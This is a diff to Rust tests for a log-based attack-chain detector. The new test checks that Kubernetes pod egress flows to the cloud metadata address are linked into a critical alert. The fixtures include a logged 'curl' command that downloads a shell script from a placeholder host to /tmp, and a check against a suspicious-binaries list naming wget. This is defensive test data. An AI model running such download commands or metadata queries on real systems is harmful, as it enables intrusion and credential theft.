@@ -622,11 +622,19 @@ fn azure_linux_guests_through_log_analytics_complete_an_an0692_chain() {
     let sysmon = d.jsonl(
         "syslog-sysmon.json",
         &[
-            syslog_row(100_000, "sshd", "Accepted publickey for azureuser from 203.0.113.9 port 50022 ssh2"),
+            syslog_row(
+                100_000,
+                "sshd",
+                "Accepted publickey for azureuser from 203.0.113.9 port 50022 ssh2",
+            ),
             syslog_row(
                 200_000,
                 "sysmon",
-                &sysmon_linux_xml("2026-11-20T09:03:20.000", "/usr/bin/curl", "curl -fsSL http://203.0.113.5/i.sh -o /tmp/i.sh"),
+                &sysmon_linux_xml(
+                    "2026-11-20T09:03:20.000",
+                    "/usr/bin/curl",
+                    "curl -fsSL http://203.0.113.5/i.sh -o /tmp/i.sh",
+                ),
             ),
         ],
     );
@@ -657,8 +665,54 @@ fn azure_linux_guests_through_log_analytics_complete_an_an0692_chain() {
         run.stderr
     );
     assert!(
-        run.reasons[0].iter().any(|r| r.starts_with("ran /usr/bin/wget ('wget' in suspicious_binaries)")),
+        run.reasons[0]
+            .iter()
+            .any(|r| r.starts_with("ran /usr/bin/wget ('wget' in suspicious_binaries)")),
         "{:?}",
         run.reasons
     );
+}
+
+fn hubble(ms: i64, pod: &str, dst: &str, dport: u16, verdict: &str) -> Value {
+    json!({"flow":{"time":iso_ms(ms),"uuid":format!("7d1f0c2e-8a4b-4c3d-9e2f-{ms:012}"),"verdict":verdict,
+        "IP":{"source":"10.244.1.23","destination":dst,"ipVersion":"IPv4"},
+        "l4":{"TCP":{"source_port":51514,"destination_port":dport,"flags":{"SYN":true}}},
+        "source":{"ID":1234,"identity":5678,"namespace":"default","labels":["k8s:app=report-gen"],"pod_name":pod},
+        "destination":{"identity":2,"labels":["reserved:world"]},"Type":"L3_L4","node_name":NODE,
+        "event_type":{"type":4,"sub_type":3},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","is_reply":false},
+        "node_name":NODE,"time":iso_ms(ms)})
+}
+
+#[test]
+fn hubble_egress_joins_the_pod_it_names_without_an_address() {
+    let d = Dir::new();
+    let events = d.jsonl("kubelet.jsonl", &kubelet_events());
+    let flows = d.jsonl(
+        "hubble.jsonl",
+        &[
+            // Dropped by policy: it never left.
+            hubble(30_000, POD, "169.254.169.254", 80, "DROPPED"),
+            hubble(41_000, POD, "169.254.169.254", 80, "FORWARDED"),
+            hubble(41_010, POD, "169.254.169.254", 80, "FORWARDED"),
+        ],
+    );
+    let run = scan(&["--strict"], &[&events, &flows]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(
+        run.alerts,
+        vec![format!("an0691.chain critical host={NODE} id=- pod=default/{POD} c=worker image=docker.io/{IMAGE} [pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@hubble.jsonl:2]")],
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("read hubble-flow"), "{}", run.stderr);
+    // In a pod running two containers the flow cannot say which one connected.
+    let mut two = kubelet_events();
+    for (uid, reason) in [("u-5", "Created"), ("u-6", "Started")] {
+        let mut e = self::kubelet(11, uid, reason, &format!("{reason} container: sidecar"));
+        e["involvedObject"]["fieldPath"] = json!("spec.containers{sidecar}");
+        two.push(e);
+    }
+    let kubelet2 = d.jsonl("kubelet2.jsonl", &two);
+    let run = scan(&[], &[&kubelet2, &flows]);
+    assert_eq!(run.alerts, Vec::<String>::new(), "{}", run.stderr);
 }
